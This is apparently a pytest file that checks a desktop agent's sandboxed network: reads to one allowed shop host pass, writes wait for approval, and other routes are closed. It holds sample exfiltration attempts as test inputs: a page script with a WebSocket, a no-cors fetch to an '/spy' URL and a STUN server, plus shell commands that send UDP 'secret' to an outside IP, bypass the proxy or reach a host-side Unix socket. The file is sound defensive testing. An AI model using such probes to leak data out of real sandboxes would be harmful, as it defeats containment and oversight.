"""What a desk with hosts reaches, and what it does not; the oracle is what came to the hosts."""

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from desktop_agent.desk.network.question import HeldWrite
from desktop_agent.desk.network.sent_list import sent_requests
from desktop_agent.desk.sandbox.side_desk import SideDesk
from tests.fakes import browser
from tests.fakes.desks import done_inside
from tests.fakes.joined_desks import desk_with, lead_to
from tests.fakes.waiting import wait_until
from tests.fakes.web_hosts import WebHosts

SHOP = "shop.example.org"
OTHER = "other.example.com"
# It tries three other ways out first, and sends its form when all of them have failed.
PAGE = f"""<form method="post" action="/order"><input name="letters" value="3"></form>
<script>
const one = new WebSocket("wss://{SHOP}/socket");
const socket = new Promise(done => {{ one.onopen = one.onerror = done; }});
const other = fetch("https://{OTHER}/spy", {{mode: "no-cors"}}).catch(() => 0);
const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{OTHER}:3478"}}]}}); peer.createDataChannel("x");
peer.createOffer().then(offer => peer.setLocalDescription(offer));
Promise.all([socket, other]).then(() => document.forms[0].submit());
</script>"""


@pytest.fixture
def hosts(monkeypatch: pytest.MonkeyPatch) -> Iterator[WebHosts]:
    made = WebHosts((SHOP, OTHER))
    lead_to(made, monkeypatch)
    yield made
    made.close()


@pytest.fixture
def desk(tmp_path: Path, hosts: WebHosts) -> Iterator[SideDesk]:
    with desk_with(tmp_path, (SHOP,)) as made:
        yield made


def test_a_read_passes_and_a_write_waits_for_a_yes(desk: SideDesk, hosts: WebHosts) -> None:
    held = list[HeldWrite]()
    assert desk.network is not None
    desk.network.listen(lambda told: held.append(told) if isinstance(told, HeldWrite) else None)

    assert done_inside(desk, f"curl -sS https://{SHOP}/read") == "hello"
    desk.start(["sh", "-c", f"curl -sS -d a=1 https://{SHOP}/yes > ~/yes; curl -sS -d a=1 https://{SHOP}/no > ~/no"])
    wait_until(lambda: held, "the question")
    assert [one.first for one in hosts.arrived] == ["GET /read HTTP/1.1"]
    desk.network.answer(held[0].number, "once")
    wait_until(lambda: len(held) == 2, "the second question")
    desk.network.answer(held[1].number, "no")
    wait_until(lambda: done_inside(desk, "cat ~/yes ~/no"), "the answers")

    assert [one.first for one in hosts.arrived] == ["GET /read HTTP/1.1", "POST /yes HTTP/1.1"]
    assert [(one.method, one.by) for one in sent_requests(desk.folder)] == [("GET", "hosts"), ("POST", "once")]


def test_nothing_else_is_reached(desk: SideDesk, hosts: WebHosts) -> None:
    with socket.socket(socket.AF_UNIX) as outside:
        outside.bind("\0desk-way-out")
        outside.listen()
        tried = done_inside(
            desk,
            "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"\\0desk-way-out\")' 2>&1 | tail -1; "
            "python3 -c 'import socket; udp = socket.socket(type=socket.SOCK_DGRAM); "
            'udp.sendto(b"secret", ("93.184.216.10", 53))\' 2>&1 | tail -1',
        )
    assert "Connection refused" in tried
    assert "Network is unreachable" in tried
    said = done_inside(
        desk,
        f"curl -sS https://{OTHER}/; curl -sS --noproxy '*' -m 3 https://{SHOP}/; "
        f"python3 -c 'import socket; socket.getaddrinfo(\"{SHOP}\", 443)' 2>&1 | tail -1; "
        "python3 -c 'import socket; socket.create_connection((\"93.184.216.10\", 443), 3)' 2>&1 | tail -1; "
        f"curl -sS -i -m 3 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://{SHOP}/socket | head -1",
    )

    assert "403" in said.splitlines()[0]
    assert "Could not resolve host" in said
    assert "Network is unreachable" in said
    assert said.splitlines()[-1].split()[1] == "403"
    assert hosts.arrived == []


@pytest.mark.skipif(bool(browser.WHY_NOT), reason=browser.WHY_NOT)
def test_a_form_in_chromium_waits_for_a_yes_and_its_other_ways_out_are_closed(
    desk: SideDesk, hosts: WebHosts, tmp_path: Path
) -> None:
    held = list[HeldWrite]()
    assert desk.network is not None
    desk.network.listen(lambda told: held.append(told) if isinstance(told, HeldWrite) else None)
    hosts.answer = lambda came: page(PAGE if came.first == "GET / HTTP/1.1" else "<title>answered</title>")

    desk.start(["chromium", "--no-first-run", "--disable-gpu", f"https://{SHOP}/"])
    wait_until(lambda: held, "the form")
    before = [one.first for one in hosts.arrived]
    desk.network.answer(held[0].number, "once")
    wait_until(lambda: [one for one in hosts.arrived if one.method == "POST"], "the form at its host")

    assert "POST /order HTTP/1.1" not in before
    assert [one.body for one in hosts.arrived if one.method == "POST"] == [b"letters=3"]
    assert {one.host for one in hosts.arrived} == {SHOP}
    assert not [one for one in hosts.arrived if one.value("upgrade")]


def page(text: str) -> bytes:
    body = text.encode()
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body)
